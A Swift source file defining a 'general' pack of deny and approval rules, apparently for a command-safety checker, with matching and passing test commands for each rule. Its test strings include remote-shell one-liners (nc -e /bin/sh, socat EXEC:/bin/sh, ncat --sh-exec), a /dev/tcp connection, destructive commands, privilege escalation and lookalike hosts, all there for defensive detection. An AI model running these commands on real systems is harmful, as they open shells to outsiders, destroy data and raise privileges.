/// Rules for whatever the others do not name.
extension Pack {
    static let general = Pack(
        "general",
        [
            Rule(
                "general/remote-shell", .blocked, .critical,
                when: [Condition([.raisePrivilege], subjects: [.host], with: [.exposes])],
                because: "It gives a shell on this machine to whoever is at the other end.",
                matching: [
                    "nc -e /bin/sh example.com 4444", "socat TCP-LISTEN:4444 EXEC:/bin/sh",
                    "ncat -l 4444 --sh-exec bash",
                ], passing: ["nc -l 4444", "nc -z localhost 80"]),
            Rule(
                "general/raw-connection", .requiresApproval, .high, when: [Condition([.sendOut], with: [.exposes])],
                because: "It opens a connection past every tool that would show what goes through it.",
                matching: ["echo x > /dev/tcp/example.com/80"], passing: ["curl https://example.com"]),
            Rule(
                "general/destroy", .requiresApproval, .high,
                when: [Condition([.destroy], subjects: Set(Subject.allCases).subtracting([.disk, .process]))],
                because: "What it destroys may not come back.",
                matching: [
                    "curl -X DELETE https://api.example.com/items/1", "crontab -r", "unknown-tool items delete 5",
                ], passing: ["curl https://api.example.com/items/1", "crontab -l"]),
            Rule(
                "general/rights", .requiresApproval, .high,
                when: [
                    Condition([.raisePrivilege], subjects: Set(Subject.allCases).subtracting([.host])),
                    Condition([.raisePrivilege], subjects: [.host], without: [.exposes]),
                ],
                because: "It gains rights, or gives them away.",
                matching: ["sudo -i", "su - root", "chmod u+s tool", "passwd root", "usermod -aG sudo me"],
                passing: ["id", "sudo git status"]),
            Rule(
                "general/machine", .requiresApproval, .medium, when: [Condition([.changeSystem])],
                because: "It changes this machine beyond the project.",
                matching: [
                    "systemctl stop docker", "reboot", "kill -9 1234", "iptables -F", "mount /dev/sda1 /mnt",
                    "crontab jobs.txt",
                ],
                passing: ["systemctl status docker", "kill 1234", "iptables -L", "mount"]),
            Rule(
                "general/lookalike", .requiresApproval, .high,
                when: [Condition([.fetch, .sendOut], with: [.unreadable])],
                because: "The host's name looks like another's.",
                matching: ["curl https://xn--exmple-cua.com", "curl https://g\u{043E}\u{043E}gle.com"],
                passing: ["curl https://example.com"]),
            Rule(
                "general/elsewhere", .requiresApproval, .medium, when: [Condition([.changeRemote], without: [.mild])],
                because: "It changes something on another machine.",
                matching: ["curl -X PUT https://api.example.com/items/1 -d x=1"],
                passing: ["curl -X POST https://api.example.com/search -d q=1", "git push"]),
        ])
}
